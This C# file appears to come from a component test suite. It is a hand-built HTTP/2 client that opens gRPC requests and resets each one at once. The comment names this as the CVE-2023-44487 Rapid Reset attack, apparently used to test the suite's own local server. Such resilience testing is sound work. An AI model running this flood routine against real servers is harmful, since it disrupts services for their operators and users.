using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace Suite.Tests.Component.Hosting;

/// <summary>HTTP/2 by hand (RFC 9113), for what no client library would do.</summary>
internal sealed class RawHttp2 : IDisposable
{
    private const byte Headers = 1;
    private const byte ResetStream = 3;
    private const byte Settings = 4;
    private const byte EndHeaders = 4;

    private readonly TcpClient _tcp = new() { NoDelay = true };
    private readonly byte[] _block;
    private int _stream = -1;

    private RawHttp2(string path) => _block = HeaderBlock(path);

    /// <summary>Connects and says hello. <paramref name="path"/> is what every request asks for.</summary>
    public static async Task<RawHttp2> ConnectAsync(Uri server, string path)
    {
        var raw = new RawHttp2(path);
        try
        {
            await raw._tcp.ConnectAsync(server.Host, server.Port);
        }
        catch (SocketException)
        {
            // Cut off between accept and hello; whoever reads or writes finds out.
            return raw;
        }

        byte[] hello = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])];
        await raw.SendAsync(hello);
        return raw;
    }

    /// <summary>Opens requests and takes each back at once, as in CVE-2023-44487. False when the server has closed the connection.</summary>
    public async Task<bool> OpenAndResetAsync(int requests)
    {
        using var burst = new MemoryStream();
        for (var i = 0; i < requests; i++)
        {
            _stream += 2;
            burst.Write(Frame(Headers, EndHeaders, _stream, _block));
            burst.Write(Frame(ResetStream, 0, _stream, [0, 0, 0, 8]));
        }

        return await SendAsync(burst.ToArray());
    }

    /// <summary>Reads what the server says until one side closes the connection.</summary>
    public async Task ReadToEndAsync()
    {
        var buffer = new byte[16 * 1024];
        try
        {
            while (await _tcp.GetStream().ReadAsync(buffer) > 0)
            {
            }
        }
        catch (Exception e) when (e is IOException or ObjectDisposedException or InvalidOperationException)
        {
            // Reset is closed, too.
        }
    }

    public void Dispose() => _tcp.Dispose();

    private async Task<bool> SendAsync(ReadOnlyMemory<byte> bytes)
    {
        try
        {
            await _tcp.GetStream().WriteAsync(bytes);
            return true;
        }
        catch (Exception e) when (e is IOException or ObjectDisposedException or InvalidOperationException)
        {
            return false;
        }
    }

    private static byte[] Frame(byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
    {
        var frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame.AsSpan(9));
        return frame;
    }

    /// <summary>POST of a gRPC call in HPACK, nothing of it kept in the table (RFC 7541, 6.2.2).</summary>
    private static byte[] HeaderBlock(string path)
    {
        using var block = new MemoryStream();
        block.Write([0x83, 0x86]); // :method POST, :scheme http
        block.WriteByte(0x04); // :path
        Text(path);
        block.WriteByte(0x01); // :authority
        Text("127.0.0.1");
        block.Write([0x0f, 0x10]); // content-type
        Text("application/grpc");
        block.WriteByte(0x00);
        Text("te");
        Text("trailers");
        return block.ToArray();

        void Text(string text)
        {
            block.WriteByte((byte)text.Length);
            block.Write(Encoding.ASCII.GetBytes(text));
        }
    }
}
